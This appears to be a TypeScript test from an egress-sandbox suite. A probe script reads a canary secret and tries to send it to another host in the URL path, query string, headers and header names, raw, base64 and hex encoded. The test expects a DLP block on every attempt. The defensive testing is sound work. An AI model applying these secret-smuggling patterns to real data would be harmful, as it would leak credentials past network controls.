// The canary outside the body: path, query, header, name of a host. Source: EGRESS L rows; DNS rows D16, D18.
import { forEachTier } from '../support/attack.ts';
import { EgressBox } from '../support/egress-box.ts';

forEachTier('a canary is refused in the path, the query, a header and their names', async (tier) => {
  await using box = new EgressBox(tier, { dlp: true });
  const result = await box.probe(`
canary = os.environ['CANARY']
coded = base64.urlsafe_b64encode(canary.encode()).decode().rstrip('=')
for name, text in (('raw', canary), ('coded', coded), ('hex', canary.encode().hex())):
    ask(f'path-{name}', 'GET', f'/a/{text}', (), host=OTHER)
    ask(f'query-{name}', 'GET', f'/a?q={text}', (), host=OTHER)
    ask(f'header-{name}', 'GET', '/a', (f'X-Note: {text}',), host=OTHER)
    ask(f'agent-{name}', 'GET', '/a', (f'User-Agent: {text}',), host=OTHER)
ask('query-name', 'GET', f'/a?{canary}=1', (), host=OTHER)
ask('header-name', 'GET', '/a', (f'{canary}: 1',), host=OTHER)
control()
`);
  const places = ['path', 'query', 'header', 'agent'].flatMap((place) =>
    ['raw', 'coded', 'hex'].map((name) => `${place}-${name}`),
  );
  const all = [...places, 'query-name', 'header-name'];
  box.expectHeld(result, Object.fromEntries(all.map((name) => [name, '403 network.dlp'])));
});
